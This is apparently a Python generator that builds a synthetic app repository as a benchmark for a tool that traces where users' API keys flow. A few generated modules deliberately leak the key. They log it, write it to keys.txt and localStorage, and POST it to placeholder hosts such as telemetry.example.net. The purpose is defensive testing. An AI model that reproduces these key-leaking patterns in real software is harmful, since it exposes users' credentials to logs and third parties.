"""Build a synthetic repository of realistic Python, JavaScript and TypeScript for the benchmark.

The repository looks like a mid-sized BYOK app: packages of Python modules importing each
other (services, models, views, utilities, a Streamlit page or a Flask blueprint), a web front
end of React components in JSX and TSX with TypeScript helpers and Express routes, a vendored
folder, installed dependencies, a 1 MB minified bundle and a file of one enormous line. A few
percent of the modules carry the user's key somewhere it should not go (a log, a file, a third
party), through helpers in other modules, so the analysis has real flows to follow.

    build_repo(Path("/tmp/bench-1000"), 1000)   # -> BuiltRepo(sources=..., key_flows=...)

Generation is deterministic for a given size (seeded), so runs compare like with like.
"""
from __future__ import annotations

import random
from dataclasses import dataclass
from pathlib import Path

WORDS = ("account", "invoice", "session", "report", "message", "summary", "profile", "billing",
         "upload", "search", "prompt", "history", "export", "settings", "usage", "feedback",
         "document", "chart", "dataset", "template", "audit", "team", "project", "ticket")
VERBS = ("load", "build", "render", "format", "update", "fetch", "parse", "merge", "score", "clean")
KEY_FLOW_SHARE = 0.03
VENDORED_SHARE = 0.04


@dataclass
class BuiltRepo:
    root: Path
    sources: int  # source files outside vendored and installed folders (oversized ones included)
    key_flows: int  # modules that leak the key


def build_repo(root: Path, files: int, seed: int = 7) -> BuiltRepo:
    rng = random.Random(seed * 100_003 + files)
    vendored = max(2, int(files * VENDORED_SHARE))
    own = files - vendored - 2  # the bundle and the long line are files too
    python_files = int(own * 0.45)
    javascript_files = int(own * 0.30)
    typescript_files = own - python_files - javascript_files
    flows = _write_python(root / "app", python_files, rng)
    flows += _write_javascript(root / "web", javascript_files, rng)
    flows += _write_typescript(root / "web" / "src" / "lib", typescript_files, rng)
    _write_vendored(root, vendored, rng)
    _write_oversized(root / "web" / "public")
    return BuiltRepo(root, _count_sources(root), flows)


def _count_sources(root: Path) -> int:
    suffixes = {".py", ".js", ".jsx", ".ts", ".tsx"}
    return sum(1 for p in root.rglob("*") if p.suffix in suffixes
               and not {"node_modules", "vendor"} & set(p.relative_to(root).parts))


def _write(path: Path, text: str) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text, encoding="utf-8")


def _name(rng: random.Random) -> str:
    return f"{rng.choice(VERBS)}_{rng.choice(WORDS)}"


# ---------------------------------------------------------------- Python

def _write_python(root: Path, count: int, rng: random.Random) -> int:
    """Packages of ~20 modules; each module imports one or two earlier siblings."""
    flows = 0
    per_package = 20
    for i in range(count):
        package = f"pkg{i // per_package}"
        index = i % per_package
        leaks = rng.random() < KEY_FLOW_SHARE
        flows += leaks
        if index == 0:
            _write(root / package / "__init__.py", f'"""The {rng.choice(WORDS)} package."""\n')
        if leaks:
            _write(root / package / f"keyed_{index}.py", _python_key_page(package, index, rng))
            _write(root / package / f"keyed_{index}_sink.py", _python_key_sink(rng))
        else:
            _write(root / package / f"mod_{index}.py", _python_module(package, index, rng))
    return flows


def _python_module(package: str, index: int, rng: random.Random) -> str:
    imports = ""
    calls = ""
    if index > 0:
        other = rng.randrange(index)
        imports = f"from {package}.mod_{other} import Service{other}, helper_{other}\n"
        calls = f"        extra = helper_{other}(rows)\n        rows = rows + extra\n"
    word, verb = rng.choice(WORDS), rng.choice(VERBS)
    functions = "\n\n".join(_python_function(rng, n) for n in range(rng.randint(3, 6)))
    return f'''"""{word.title()} service: {verb}s {word}s for the dashboard."""
import json
import logging
import os
from dataclasses import dataclass, field

import requests
{imports}
log = logging.getLogger(__name__)
API_ROOT = os.environ.get("{word.upper()}_API_ROOT", "https://api.example.com/v1")


@dataclass
class {word.title()}Record:
    ident: int
    title: str
    tags: list = field(default_factory=list)

    def label(self) -> str:
        return f"{{self.ident}}: {{self.title}}"


class Service{index}:
    def __init__(self, session=None, timeout=10):
        self.session = session or requests.Session()
        self.timeout = timeout
        self.cache = {{}}

    def {verb}(self, query: str, limit: int = 20) -> list:
        if query in self.cache:
            return self.cache[query]
        response = self.session.get(f"{{API_ROOT}}/{word}s", params={{"q": query, "limit": limit}},
                                    timeout=self.timeout)
        response.raise_for_status()
        rows = [{word.title()}Record(r["id"], r["title"], r.get("tags", [])) for r in response.json()]
{calls}        self.cache[query] = rows
        log.info("%s %s rows for %r", "{verb}", len(rows), query)
        return rows

    async def {verb}_async(self, query: str) -> dict:
        rows = self.{verb}(query)
        return {{"count": len(rows), "labels": [r.label() for r in rows]}}


def helper_{index}(rows: list) -> list:
    seen = set()
    out = []
    for row in rows:
        key = getattr(row, "ident", None)
        if key in seen:
            continue
        seen.add(key)
        out.append(row)
    return out


{functions}
'''


def _python_function(rng: random.Random, n: int) -> str:
    name = f"{_name(rng)}_{n}"
    word = rng.choice(WORDS)
    shape = rng.randrange(3)
    if shape == 0:
        return f'''def {name}(items, threshold=0.5):
    """Keep the {word}s that score above the threshold."""
    scored = sorted(items, key=lambda item: item.get("score", 0), reverse=True)
    kept = [item for item in scored if item.get("score", 0) > threshold]
    with open(os.path.join("/tmp", "{word}.json"), "w") as fh:
        json.dump({{"count": len(kept)}}, fh)
    return kept'''
    if shape == 1:
        return f'''def {name}(text: str) -> str:
    parts = [p.strip() for p in text.split(",") if p.strip()]
    if not parts:
        log.warning("empty {word} list")
        return ""
    return " | ".join(p.title() for p in parts)'''
    return f'''def {name}(user_id, payload):
    body = {{"user": user_id, "{word}": payload, "source": "dashboard"}}
    reply = requests.post(f"{{API_ROOT}}/{word}/events", json=body, timeout=5)
    if reply.status_code >= 400:
        log.error("{word} event failed: %s", reply.text[:200])
    return reply.ok'''


def _python_key_page(package: str, index: int, rng: random.Random) -> str:
    word = rng.choice(WORDS)
    return f'''"""A page where the user pastes their key."""
import streamlit as st
from openai import OpenAI

from {package}.keyed_{index}_sink import remember, report_usage

api_key = st.text_input("OpenAI API key", type="password")
question = st.text_area("Ask about your {word}s")
if api_key and st.button("Ask"):
    remember(api_key)
    client = OpenAI(api_key=api_key)
    answer = client.chat.completions.create(model="gpt-4o-mini",
                                            messages=[{{"role": "user", "content": question}}])
    report_usage(api_key, question)
    st.write(answer.choices[0].message.content)
'''


def _python_key_sink(rng: random.Random) -> str:
    host = rng.choice(("metrics.example.net", "collect.example.org", "stats.example.io"))
    return f'''"""Where the key goes once typed."""
import logging

import requests

log = logging.getLogger(__name__)


def remember(key):
    log.info("user key %s", key)
    with open("keys.txt", "a") as fh:
        fh.write(key + "\\n")


def report_usage(key, question):
    requests.post("https://{host}/usage", json={{"key": key, "chars": len(question)}})
'''


# ---------------------------------------------------------------- JavaScript

def _write_javascript(root: Path, count: int, rng: random.Random) -> int:
    flows = 0
    for i in range(count):
        leaks = rng.random() < KEY_FLOW_SHARE
        flows += leaks
        if leaks:
            _write(root / "src" / "settings" / f"KeyForm{i}.jsx", _jsx_key_form(i, rng))
        elif i % 3 == 0:
            _write(root / "server" / "routes" / f"{rng.choice(WORDS)}{i}.js", _express_route(i, rng))
        else:
            _write(root / "src" / "components" / f"{rng.choice(WORDS).title()}{i}.jsx", _jsx_component(i, rng))
    return flows


def _jsx_component(i: int, rng: random.Random) -> str:
    word = rng.choice(WORDS)
    return f'''import React, {{ useEffect, useState }} from "react";
import {{ formatDate }} from "../lib/format.js";

export default function {word.title()}List{i}({{ filter, onSelect }}) {{
  const [items, setItems] = useState([]);
  const [loading, setLoading] = useState(false);

  useEffect(() => {{
    setLoading(true);
    fetch(`/api/{word}s?filter=${{encodeURIComponent(filter)}}`)
      .then((res) => res.json())
      .then((data) => setItems(data.items || []))
      .catch((err) => console.error("{word}s failed", err))
      .finally(() => setLoading(false));
  }}, [filter]);

  const sorted = [...items].sort((a, b) => b.updatedAt - a.updatedAt);
  if (loading) return <p className="muted">Loading {word}s…</p>;
  return (
    <ul className="{word}-list">
      {{sorted.map((item) => (
        <li key={{item.id}} onClick={{() => onSelect(item)}}>
          <strong>{{item.title}}</strong> <time>{{formatDate(item.updatedAt)}}</time>
        </li>
      ))}}
    </ul>
  );
}}
'''


def _express_route(i: int, rng: random.Random) -> str:
    word = rng.choice(WORDS)
    return f'''const express = require("express");
const {{ db }} = require("../db");

const router = express.Router();

router.get("/{word}s", async (req, res) => {{
  const limit = Math.min(Number(req.query.limit) || 20, 100);
  const rows = await db.{word}.findMany({{ take: limit, orderBy: {{ updatedAt: "desc" }} }});
  console.log(`listed ${{rows.length}} {word}s`);
  res.json({{ items: rows }});
}});

router.post("/{word}s/:id", async (req, res) => {{
  const {{ title, tags }} = req.body;
  if (!title) return res.status(400).json({{ error: "title required" }});
  const row = await db.{word}.update({{ where: {{ id: req.params.id }}, data: {{ title, tags }} }});
  res.json(row);
}});

module.exports = router;
'''


def _jsx_key_form(i: int, rng: random.Random) -> str:
    host = rng.choice(("telemetry.example.net", "track.example.org"))
    return f'''import React, {{ useState }} from "react";
import {{ saveKey }} from "../lib/keys{i}.js";

export function KeyForm{i}() {{
  const [apiKey, setApiKey] = useState("");

  async function submit(event) {{
    event.preventDefault();
    saveKey(apiKey);
    await fetch("https://{host}/collect", {{ method: "POST", body: JSON.stringify({{ apiKey }}) }});
  }}

  return (
    <form onSubmit={{submit}}>
      <input type="password" value={{apiKey}} onChange={{(e) => setApiKey(e.target.value)}} />
      <button>Save</button>
    </form>
  );
}}
'''


# ---------------------------------------------------------------- TypeScript

def _write_typescript(root: Path, count: int, rng: random.Random) -> int:
    _write(root.parent.parent / "src" / "lib" / "format.js",
           'export function formatDate(ms) {\n  return new Date(ms).toLocaleDateString();\n}\n')
    flows = 0
    for i in range(count):
        if i % 4 == 3:
            _write(root / f"{rng.choice(WORDS)}Panel{i}.tsx", _tsx_component(i, rng))
        else:
            _write(root / f"{rng.choice(WORDS)}{i}.ts", _ts_module(i, rng))
    for path in sorted((root.parent / "settings").glob("KeyForm*.jsx")) if (root.parent / "settings").exists() else []:
        index = path.stem.removeprefix("KeyForm")
        _write(root / f"keys{index}.js", _js_key_store())
    return flows


def _ts_module(i: int, rng: random.Random) -> str:
    word = rng.choice(WORDS)
    return f'''export interface {word.title()}{i} {{
  id: string;
  title: string;
  score?: number;
}}

export class {word.title()}Client{i} {{
  private cache = new Map<string, {word.title()}{i}[]>();

  constructor(private readonly base: string = "/api") {{}}

  async list(query: string): Promise<{word.title()}{i}[]> {{
    const cached = this.cache.get(query);
    if (cached) return cached;
    const res = await fetch(`${{this.base}}/{word}s?q=${{encodeURIComponent(query)}}`);
    if (!res.ok) throw new Error(`{word}s: ${{res.status}}`);
    const rows = (await res.json()) as {word.title()}{i}[];
    this.cache.set(query, rows);
    return rows;
  }}
}}

export function rank{i}(rows: {word.title()}{i}[], min = 0): {word.title()}{i}[] {{
  return rows.filter((r) => (r.score ?? 0) >= min).sort((a, b) => (b.score ?? 0) - (a.score ?? 0));
}}
'''


def _tsx_component(i: int, rng: random.Random) -> str:
    word = rng.choice(WORDS)
    return f'''import {{ useMemo, useState }} from "react";

type Props = {{ rows: {{ id: string; title: string }}[]; onPick: (id: string) => void }};

export function {word.title()}Panel{i}({{ rows, onPick }}: Props) {{
  const [query, setQuery] = useState<string>("");
  const shown = useMemo(() => rows.filter((r) => r.title.includes(query)), [rows, query]);
  return (
    <section>
      <input value={{query}} onChange={{(e) => setQuery(e.target.value)}} placeholder="Filter {word}s" />
      {{shown.map((r) => <button key={{r.id}} onClick={{() => onPick(r.id)}}>{{r.title}}</button>)}}
    </section>
  );
}}
'''


def _js_key_store() -> str:
    return '''export function saveKey(key) {
  localStorage.setItem("openai_key", key);
  console.log("saved key", key);
}
'''


# ---------------------------------------------------------------- not the app's own code

def _write_vendored(root: Path, count: int, rng: random.Random) -> None:
    for i in range(count):
        if i % 2:
            _write(root / "node_modules" / f"lib{i}" / "index.js",
                   f"module.exports = function lib{i}(x) {{ return x; }};\n" * 20)
        else:
            _write(root / "vendor" / f"pylib{i}" / "__init__.py", f"def f{i}(x):\n    return x\n" * 20)


def _write_oversized(folder: Path) -> None:
    """A 1 MB minified bundle and a file of one enormous line."""
    chunk = "var a{n}=function(t){{return t&&t.length?t.map(function(e){{return e*{n}}}):[]}};"
    bundle = "".join(chunk.format(n=n) for n in range(14_000))
    _write(folder / "bundle.min.js", bundle[:1_000_000])
    _write(folder / "generated_table.py", "TABLE = [" + ",".join(str(n) for n in range(200_000)) + "]\n")
